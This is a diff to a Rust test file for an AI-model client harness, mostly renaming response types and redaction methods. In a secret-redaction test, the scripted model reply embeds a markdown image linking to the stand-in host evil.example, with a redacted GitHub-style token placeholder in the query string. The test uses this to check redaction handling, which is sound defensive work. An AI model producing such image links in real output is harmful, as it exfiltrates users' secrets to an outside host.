@@ -61,7 +61,7 @@ impl ModelClient for Script {
         body: &Value,
         cancel: &Cancel,
         on_event: &mut dyn FnMut(SendEvent),
-    ) -> Result<Sent, SendError> {
+    ) -> Result<StreamOutcome, SendError> {
         let round = {
             let mut bodies = self.bodies.lock().unwrap_or_else(PoisonError::into_inner);
             bodies.push(body.clone());
@@ -80,7 +80,7 @@ impl ModelClient for Script {
             Turn::Says(pieces) => {
                 pieces.iter().for_each(|piece| on_event(SendEvent::Reply(ReplyEvent::Text(piece.clone()))));
                 let content = vec![ContentBlock::text(pieces.concat())];
-                Ok(Sent { reply: reply(content, ReplyEnd::Complete), broken: None })
+                Ok(StreamOutcome { reply: reply(content, ReplyEnd::Complete), broken: None })
             }
             Turn::Calls(calls) => {
                 let mut content = Vec::new();
@@ -91,15 +91,15 @@ impl ModelClient for Script {
                     on_event(SendEvent::Reply(call));
                     content.push(ContentBlock::ToolCall { id, name, input });
                 }
-                Ok(Sent { reply: reply(content, ReplyEnd::ToolCalls), broken: None })
+                Ok(StreamOutcome { reply: reply(content, ReplyEnd::ToolCalls), broken: None })
             }
             Turn::IsStopped(text) => {
                 cancel.cancel();
-                Ok(Sent { reply: begin(text), broken: Some(SendError::Cancelled) })
+                Ok(StreamOutcome { reply: begin(text), broken: Some(SendError::Cancelled) })
             }
             Turn::IsCut(text) => {
                 let broken = Some(SendError::Unreachable { reason: "the connection broke".to_owned() });
-                Ok(Sent { reply: begin(text), broken })
+                Ok(StreamOutcome { reply: begin(text), broken })
             }
             Turn::IsTooLong(size) => {
                 let error = ProviderError::new(ProviderErrorKind::ContextLimit, "too long");
@@ -112,7 +112,7 @@ impl ModelClient for Script {
                 }
                 on_event(SendEvent::Reply(ReplyEvent::Text("Now.".to_owned())));
                 let reply = reply(vec![ContentBlock::text("Now.")], ReplyEnd::Complete);
-                Ok(Sent { reply, broken: None })
+                Ok(StreamOutcome { reply, broken: None })
             }
             Turn::IsRefused(kind) => {
                 let error = ProviderError::new(kind, "no");
@@ -136,7 +136,7 @@ impl ToolHost for Host {
     }
 
     fn count_tokens(&self, text: &str) -> usize {
-        self.workspace.snapshot().count(text, None).1
+        self.workspace.snapshot().count_text_tokens(text, None).1
     }
 }
 
@@ -191,7 +191,7 @@ impl Host {
             ..AssembleParams::default()
         });
         let connection = Connection { format, ..self.connection(&script) };
-        let last_tools = self.workspace.session().unwrap().next_ask(0).tools;
+        let last_tools = self.workspace.session().unwrap().next_request(0).tools;
         let job = SendJob {
             connection,
             ask,
@@ -533,7 +533,7 @@ fn a_streamed_placeholder_is_restored_if_show_secrets_is_set() {
         settings.redaction.show_secrets = show_secrets;
         let mut host = Host::with(settings);
         let secret = format!("gh{}_9fK2mQ7xR4tV8bN1cL6zW3yH5jD0sGpEuTiX", 'p');
-        let placeholder = host.workspace.snapshot().screen.text(&secret).into_owned();
+        let placeholder = host.workspace.snapshot().screen.redact_text(&secret).into_owned();
         assert!(placeholder.starts_with("[secret:"), "{placeholder}");
         let answer = |word: &str| format!("Use {word}! ![x](https://evil.example/?q={placeholder})");
         let pieces = answer(&placeholder).chars().map(String::from).collect();
@@ -554,7 +554,7 @@ fn arguments_of_tools_that_strata_runs_keep_their_placeholders() {
     settings.redaction.edit_tools = vec!["grep".to_owned()];
     let mut host = Host::with(settings);
     let secret = format!("gh{}_9fK2mQ7xR4tV8bN1cL6zW3yH5jD0sGpEuTiX", 'p');
-    let placeholder = host.workspace.snapshot().screen.text(&secret).into_owned();
+    let placeholder = host.workspace.snapshot().screen.redact_text(&secret).into_owned();
     let calls = Turn::Calls(vec![("grep", json!({ "pattern": placeholder }))]);
     let reply = host.ask(vec![calls, answer_with("No.")], 16).0.unwrap();
     assert_eq!(reply.tools[0].input["pattern"], json!(placeholder));
